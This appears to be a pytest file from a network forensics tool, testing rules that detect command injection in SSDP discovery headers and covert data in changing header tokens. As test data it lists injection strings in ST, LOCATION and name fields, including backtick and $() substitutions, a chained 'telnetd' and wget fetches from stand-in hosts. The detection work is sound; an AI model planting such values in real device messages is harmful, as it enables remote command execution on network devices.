"""Commands and data in discovery messages, and odd values that are neither."""

from __future__ import annotations

import base64
import hashlib

import pytest

from tests.forensics.judging import Piece, dns_answer, probe
from tests.forensics.packets import alive, search
from tests.forensics.rules.forging import CLIENT, DEVICE, ROGUE, of_rule, one, ssdp
from upnpscapy.forensics.rules.injection import RULES

COMMANDS = [
    "uuid:`echo upnpscapy-test`",
    "urn:device:1;`echo upnpscapy-test`",
    "uuid:$(echo upnpscapy-test)",
    "urn:device:1;wget http://198.51.100.7/x",
    "urn:device:1 && telnetd",
    "uuid:1|/bin/busybox echo",
    "uuid:${IFS}x",
]
ORDINARY = [
    "urn:device:1;version=2",
    "urn:Microsoft Windows Peer Name Resolution Protocol: V4:IPV6:LinkLocal",
    "roku:ecp",
    "urn:a:device:Shell:1",
    "a|b",
]


@pytest.mark.parametrize("st", COMMANDS)
def test_a_command(st: str) -> None:
    found = one("ssdp-cmd-injection", [ssdp(search(st), ROGUE, DEVICE)], RULES)
    assert (found.severity, found.outcome, found.subject) == ("CRITICAL", "attempted", DEVICE)
    assert found.evidence[0].value == f"ST: {st}"
    assert list(found.frames) == [1]


@pytest.mark.parametrize("st", ORDINARY)
def test_no_command(st: str) -> None:
    assert of_rule("ssdp-cmd-injection", [ssdp(search(st), ROGUE, DEVICE)], RULES) == []


def test_any_field_may_carry_one() -> None:
    sent = ssdp(alive(LOCATION="http://192.168.1.66/`id`"), ROGUE)
    found = one("ssdp-cmd-injection", [sent], RULES)
    assert "command in LOCATION" in found.note
    assert found.subject == ROGUE


def test_a_friendly_name_may_have_a_backtick() -> None:
    named = alive(more={"X-NAME": "Bob`s TV $(old)"}, SERVER="Linux; U; UPnP/1.0 `x`")
    assert of_rule("ssdp-cmd-injection", [ssdp(named, DEVICE)], RULES) == []
    named = alive(more={"X-NAME": "Tom & echo; sh"})
    assert of_rule("ssdp-cmd-injection", [ssdp(named, DEVICE)], RULES) == []
    hidden = alive(more={"X-NAME": "Bob`wget http://198.51.100.7/`"})
    assert of_rule("ssdp-cmd-injection", [ssdp(hidden, DEVICE)], RULES)


def test_the_connection_that_the_command_makes_is_its_effect() -> None:
    st = "uuid:`wget http://get.example.net/x`"
    pieces: list[Piece] = [
        dns_answer("get.example.net", "198.51.100.7"),
        ssdp(search(st), ROGUE, DEVICE, at=1),
        probe(DEVICE, "198.51.100.7", 80, at=2),
    ]
    found = one("ssdp-cmd-injection", pieces, RULES)
    assert (found.outcome, found.missing) == ("effect", [])
    assert 3 in list(found.frames)
    other: list[Piece] = [*pieces[:2], probe(CLIENT, "198.51.100.7", 80, at=2)]
    found = one("ssdp-cmd-injection", other, RULES)
    assert (found.outcome, found.missing) == (
        "attempted",
        ["no connection to get.example.net in the capture"],
    )


def token(number: int) -> str:
    return base64.b64encode(hashlib.sha512(bytes([number])).digest()).decode()


@pytest.mark.parametrize(
    ("values", "count"),
    [
        ([token(n) for n in range(10)], 1),
        ([token(n) for n in range(5)], 0),
        ([token(1)] * 20, 0),
        ([token(n)[:40] for n in range(20)], 0),
        (["A" * (70 + n) for n in range(20)], 0),
    ],
)
def test_data_that_changes_with_every_message(values: list[str], count: int) -> None:
    sent = [ssdp(alive(more={"X-TOKEN": value}), ROGUE, at=n) for n, value in enumerate(values)]
    found = of_rule("ssdp-covert", sent, RULES)
    assert [(one.severity, one.confidence) for one in found] == [("LOW", "low")] * count
